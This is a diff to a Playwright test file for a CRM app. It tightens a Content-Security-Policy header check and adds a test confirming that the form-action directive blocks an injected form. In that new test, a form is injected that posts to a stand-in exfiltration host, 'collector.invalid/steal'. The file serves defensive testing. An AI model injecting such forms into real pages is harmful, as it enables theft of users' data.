@@ -8,6 +8,8 @@ from typing import Any
 
 from playwright.sync_api import expect
 
+from crm_app.api.security_headers import CONTENT_SECURITY_POLICY
+
 NAV_LINKS = ("Leads", "Contacts", "Calls", "Automations", "Webhooks", "Integrations")
 
 
@@ -45,9 +47,28 @@ def test_no_other_site_may_frame_the_app_and_nothing_is_sniffed(page: Any) -> No
     for response in (page.goto("/dashboard"), page.request.get("/api/health")):
         headers = response.headers
         assert headers["x-frame-options"] == "DENY"
-        assert headers["content-security-policy"] == "frame-ancestors 'none'"
+        assert headers["content-security-policy"] == CONTENT_SECURITY_POLICY.decode()
         assert headers["x-content-type-options"] == "nosniff"
         assert headers["referrer-policy"] == "same-origin"
+
+
+def test_a_form_injected_into_a_page_cannot_post_to_another_site(page: Any) -> None:
+    start_session(page)
+    page.goto("/dashboard")
+    violated = page.evaluate(
+        """() => new Promise((resolve) => {
+            document.addEventListener("securitypolicyviolation",
+                (event) => resolve(event.violatedDirective), {once: true});
+            const form = document.createElement("form");
+            form.method = "post";
+            form.action = "https://collector.invalid/steal";
+            document.body.appendChild(form);
+            form.submit();
+            setTimeout(() => resolve("none"), 3000);
+        })"""
+    )
+    assert violated == "form-action"
+    expect(page).to_have_url(re.compile(r"/dashboard/?$"))
 
 
 def test_health_endpoint_reports_ok(page: Any) -> None:
